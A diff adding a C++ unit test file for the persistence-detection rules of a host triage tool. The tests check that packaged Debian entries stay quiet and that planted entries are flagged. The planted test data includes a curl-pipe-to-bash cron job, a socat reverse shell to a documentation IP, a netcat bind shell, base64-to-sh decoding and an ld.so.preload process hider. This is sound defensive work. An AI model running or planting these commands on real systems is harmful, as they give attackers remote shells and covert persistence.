@@ -1,0 +1,84 @@
+#include <gtest/gtest.h>
+
+#include "detect/detectors.hpp"
+#include "support/snapshot_builder.hpp"
+
+using namespace vigil;
+using namespace vigil::testing;
+
+namespace {
+constexpr std::int64_t kNow = 1700000000;
+
+collect::PersistenceRow item(std::string kind, std::string location, std::string command, std::string package = "pkg",
+                             std::int64_t age_days = 400) {
+  collect::PersistenceRow r;
+  r.kind = std::move(kind);
+  r.location = std::move(location);
+  r.line = 1;
+  r.command = std::move(command);
+  r.package = std::move(package);
+  r.mtime = kNow - age_days * 86400;
+  return r;
+}
+
+Findings run(const collect::Snapshot& s) {
+  detect::Context ctx;
+  ctx.now = kNow;
+  return detect::run_triage(s, ctx);
+}
+}  // namespace
+
+TEST(PersistenceRules, PackagedDebianItems_AreQuiet) {
+  auto s = empty_snapshot();
+  s.persistence = {
+      item("cron", "/etc/crontab", "cd / && run-parts --report /etc/cron.hourly", "cron"),
+      item("systemd", "/lib/systemd/system/ssh.service", "/usr/sbin/sshd -D $SSHD_OPTS", "openssh-server"),
+      item("systemd", "/lib/systemd/system/systemd-tmpfiles-clean.service", "systemd-tmpfiles --clean", "systemd"),
+      item("shell-startup", "/root/.profile", "PATH=\"$HOME/.local/bin:$PATH\"", ""),
+      item("shell-startup", "/etc/bash.bashrc", "[ -z \"$PS1\" ] && return", "bash"),
+      item("pam-module", "/etc/pam.d/common-auth", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so", "libpam-modules"),
+      item("udev", "/usr/lib/udev/rules.d/60-x.rules", "/usr/lib/udev/x-helper", "udev"),
+      item("authorized-key", "/root/.ssh/authorized_keys", "", ""),
+  };
+  auto f = run(s);
+  EXPECT_TRUE(f.empty()) << f[0].rule;
+}
+
+TEST(PersistenceRules, PlantedItems_AreEachReported) {
+  auto s = empty_snapshot();
+  s.persistence = {
+      item("cron", "/etc/cron.d/sync", "curl -fsSL http://198.51.100.9/i.sh | bash", "", 1),
+      item("systemd", "/etc/systemd/system/kworker.service", "/tmp/.x/miner --donate-level 0", "", 1),
+      item("ld-preload", "/etc/ld.so.preload", "/usr/lib/libprocesshider.so", ""),
+      item("authorized-key", "/root/.ssh/authorized_keys", "/bin/bash -i", "", 1),
+      item("cron", "/var/spool/cron/crontabs/www-data", "echo ZWNobyBoaQ== | base64 -d | sh", ""),
+      item("rc-local", "/etc/rc.local", "nc -l -p 4444 -e /bin/sh &", ""),
+      item("modprobe-install", "/etc/modprobe.d/x.conf", "/usr/bin/socat TCP:198.51.100.9:443 EXEC:/bin/sh", ""),
+      item("pam-module", "/etc/pam.d/sshd", "/usr/lib/x86_64-linux-gnu/security/pam_evil.so", ""),
+  };
+  auto f = run(s);
+  auto has = [&](std::string_view rule, std::string_view path) {
+    for (const auto& x : f)
+      if (x.rule == rule && x.get("file.path") == path) return true;
+    return false;
+  };
+  EXPECT_TRUE(has("persistence.download-exec", "/etc/cron.d/sync"));
+  EXPECT_TRUE(has("persistence.recent-unowned", "/etc/cron.d/sync"));
+  EXPECT_TRUE(has("persistence.temp-path", "/etc/systemd/system/kworker.service"));
+  EXPECT_TRUE(has("persistence.recent-unowned", "/etc/systemd/system/kworker.service"));
+  EXPECT_TRUE(has("persistence.ld-preload", "/etc/ld.so.preload"));
+  EXPECT_TRUE(has("persistence.authorized-key-forced-command", "/root/.ssh/authorized_keys"));
+  EXPECT_TRUE(has("persistence.authorized-key-recent", "/root/.ssh/authorized_keys"));
+  EXPECT_TRUE(has("persistence.download-exec", "/var/spool/cron/crontabs/www-data"));
+  EXPECT_TRUE(has("persistence.reverse-shell", "/etc/rc.local"));
+  EXPECT_TRUE(has("persistence.reverse-shell", "/etc/modprobe.d/x.conf"));
+  EXPECT_TRUE(has("persistence.pam-module-unowned", "/etc/pam.d/sshd"));
+  EXPECT_EQ(first_with_rule(f, "persistence.reverse-shell").severity, Severity::critical);
+}
+
+TEST(PersistenceRules, OldUnownedFilesAndHomeDotDirsInShellFiles_AreQuiet) {
+  auto s = empty_snapshot();
+  s.persistence = {item("cron", "/etc/cron.d/local-backup", "/usr/local/bin/backup", "", 30),
+                   item("shell-startup", "/home/a/.bashrc", ". \"$HOME/.cargo/env\"", "", 0)};
+  EXPECT_TRUE(run(s).empty());
+}
